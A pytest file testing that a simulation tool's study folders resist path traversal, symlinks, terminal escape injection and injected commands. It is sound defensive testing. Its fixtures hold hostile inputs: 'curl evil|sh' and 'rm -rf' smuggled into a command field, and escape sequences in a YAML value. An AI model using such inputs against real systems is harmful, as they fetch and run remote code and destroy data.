"""Tests that results folders from strangers affect no other file, and that damage gives a message."""

import os
import shutil
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from sim.cli import main
from sim.experiments.control import LOCK, alone, status
from sim.experiments.seal import FILE
from sim.experiments.store import _visible, read_yaml
from sim.experiments.study import Study
from sim.policy.problem import InputError
from tests.experiments.sweep.studies import carried_out, ready

NAMES = ("status_quo", "faster_mlat")


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Study:
    return _resumed(tmp_path_factory.mktemp("whole"))


@pytest.fixture
def folder(whole: Study, tmp_path: Path) -> Path:
    shutil.copytree(whole.folder, tmp_path / "study")
    return tmp_path / "study"


def _resumed(results: Path) -> Study:
    return carried_out(ready(results, "court.staff=1,2", "execution.replicates=2", names=NAMES))[0]


def _edit(folder: Path, old: str, new: str) -> None:
    (folder / FILE).unlink(missing_ok=True)  # a stranger's folder may have none
    file = folder / "study.yaml"
    text = file.read_text("utf-8")
    assert old in text
    file.write_text(text.replace(old, new, 1), encoding="utf-8")


def _files(*folders: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for folder in folders for path in folder.rglob("*") if path.is_file()}


def test_a_store_elsewhere_is_refused_and_nothing_there_is_lost(folder: Path) -> None:
    victim = folder.parent.parent / "victim"
    for name in ("outcomes/precious.txt", "breakdowns/mine/thesis.parquet", "x/y"):
        (victim / name).parent.mkdir(parents=True, exist_ok=True)
        (victim / name).write_text("mine", encoding="utf-8")
    before, was = _files(victim), "."
    for store in ("../../victim", "/", "outcomes", "''"):
        _edit(folder, f"store: {was}", f"store: {store}")
        was = store
        with pytest.raises(InputError, match=r"study.yaml: store"):
            _resumed(folder.parent)
        assert _files(victim) == before
    shutil.rmtree(victim)


def test_what_somebody_put_into_a_study_stays_and_what_a_killed_process_left_goes(folder: Path) -> None:
    mine = ["note.md", "outcomes/table.csv", "outcomes/mine.parquet", "experiments/old-p-000001.parquet"]
    mine += ["breakdowns/own/thesis.parquet", ".pending/p/x.txt", "outcomes/.hidden", "outcomes/p-000009.parquet.bak"]
    left = ["outcomes/p-000009.parquet", "outcomes/.p-000009.parquet.tmp", "events/case/.p-1200000003.parquet.tmp"]
    left += ["breakdowns/takedown_curve/p-000099.0000.parquet"]  # its row in the ledger was never written
    for name in (*mine, *left):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("mine", encoding="utf-8")
    _resumed(folder.parent)
    assert [name for name in mine if not (folder / name).exists()] == []
    assert [name for name in left if (folder / name).exists()] == []


def test_a_folder_that_is_a_link_is_refused(folder: Path) -> None:
    outside = folder.parent / "outside"
    for name in ("outcomes", "experiments", "breakdowns", "breakdowns/takedown_curve", "events"):
        was = (folder / name).exists()
        (folder / name).rename(outside) if was else outside.mkdir()
        (folder / name).symlink_to(outside)
        before = _files(outside)
        with pytest.raises(InputError, match="no folder but a link"):
            _resumed(folder.parent)
        assert _files(outside) == before
        (folder / name).unlink()
        outside.rename(folder / name) if was else outside.rmdir()


@pytest.mark.parametrize("name", ["log.txt", LOCK, f"{LOCK}-p", "outcomes/.p-000001.parquet.tmp"])
def test_nothing_is_written_through_a_link(name: str, folder: Path) -> None:
    outside = folder.parent / "outside"
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(outside)
    for part in folder.glob("*/p-000001.parquet"):
        part.unlink()  # its runs are made again, under the same name
    if name.endswith(".tmp"):
        _resumed(folder.parent)
    else:
        with pytest.raises(InputError, match="no plain file but a link"):
            _resumed(folder.parent)
    assert not outside.exists()


def test_a_finished_study_is_removed_but_for_what_is_not_its_own(folder: Path) -> None:
    (folder / "outcomes" / "note.md").write_text("mine", encoding="utf-8")
    Study.open(folder).remove()
    assert [path.relative_to(folder).as_posix() for path in _files(folder)] == ["outcomes/note.md"]


def test_what_controls_a_terminal_is_shown_but_for_breaks_of_lines_where_they_may_stand() -> None:
    usual, escaped = "a\x1b[1m\r\n\tb", "a\\x1b[1m"
    for text, but, shown in (("é\n", "", "é\n"), (usual, "\r", f"{escaped}\r\n\tb"), (usual, "", f"{escaped}\\r\n\tb")):
        assert _visible(text, but) == shown


def test_signs_of_references_may_stand_in_a_text(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text("note: R&D, 2 *x\nlist: [&a 1, b]\n", "utf-8")
    assert read_yaml(tmp_path / "a.yaml") == {"note": "R&D, 2 *x", "list": [1, "b"]}


def test_a_foreign_text_is_one_message(folder: Path) -> None:
    text = (folder / "study.yaml").read_text("utf-8")
    for old, new, match in (
        ("execution:", "execution:\n    results: ${oc.env:HOME}/x\n  other:", "looked up elsewhere"),
        ("command: ", "command: comity sweep; curl evil|sh #", "single command"),
        ("command: ", "command: rm -rf x #", "not a command of Comity"),
        ("replicates: 2", "replicates: '2'", "replicates"),
        ("study: ", "study: &a [x]\nother: [*a, *a]\nread2: ", "references"),
    ):
        _edit(folder, old, new)
        with pytest.raises(InputError, match=match):
            status(folder)
        (folder / "study.yaml").write_text(text, encoding="utf-8")


def test_nothing_in_a_study_controls_a_terminal(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _edit(folder, "unit: ", 'unit: "\\e]0;owned\\a\\e[2J" #')
    (folder / "log.txt").write_text("begins\n\x1b[31mred\x9b\n", encoding="utf-8")
    main(["status", str(folder)])
    main(["status", str(folder.parent)])
    said = "".join(capsys.readouterr())
    assert "owned" in said and "red" in said
    assert not set(said) & {"\x1b", "\x07", "\x9b"}


@contextmanager
def _another_account() -> Iterator[None]:
    """Context manager: runs the block as an account that can read but not write the folder."""
    root = os.geteuid() == 0
    if root:
        os.seteuid(65534)
    try:
        yield
    finally:
        if root:
            os.seteuid(0)


def test_status_reads_what_one_may_only_read(whole: Study) -> None:
    with tempfile.TemporaryDirectory() as above:  # that of pytest is closed to other accounts
        shutil.copytree(whole.folder, Path(above) / "study")
        (Path(above) / "bad").mkdir()
        os.mkfifo(Path(above) / "bad" / "study.yaml")
        shutil.copytree(whole.folder, Path(above) / "other")
        for path in (Path(above), *Path(above).rglob("*")):
            path.chmod(0o555 if path.is_dir() else 0o444)
        with _another_account():
            found = status(Path(above) / "study")
            code = main(["status", above])
        for path in (Path(above), *Path(above).rglob("*")):
            path.chmod(0o755)
    assert (found.done, found.running, code) == (found.runs, False, 0)


def test_a_look_hinders_no_start_and_sees_who_runs_it(folder: Path) -> None:
    import fcntl

    with (folder / LOCK).open() as look:
        fcntl.flock(look, fcntl.LOCK_SH)
        threading.Timer(0.2, lambda: fcntl.flock(look, fcntl.LOCK_UN)).start()
        with alone(folder, "p"):
            assert status(folder).running
            with pytest.raises(InputError, match="another process"), alone(folder, "s0of2"):
                pass
    assert not status(folder).running
    with alone(folder, "s0of2"), alone(folder, "s1of2"):
        assert status(folder).running
        with pytest.raises(InputError, match="2 parts"), alone(folder, "s0of3"):
            pass
        with pytest.raises(InputError, match="another process"), alone(folder, "p"):
            pass
    with alone(folder, "s0of3"):
        assert status(folder).running, "what others have left is no lock"
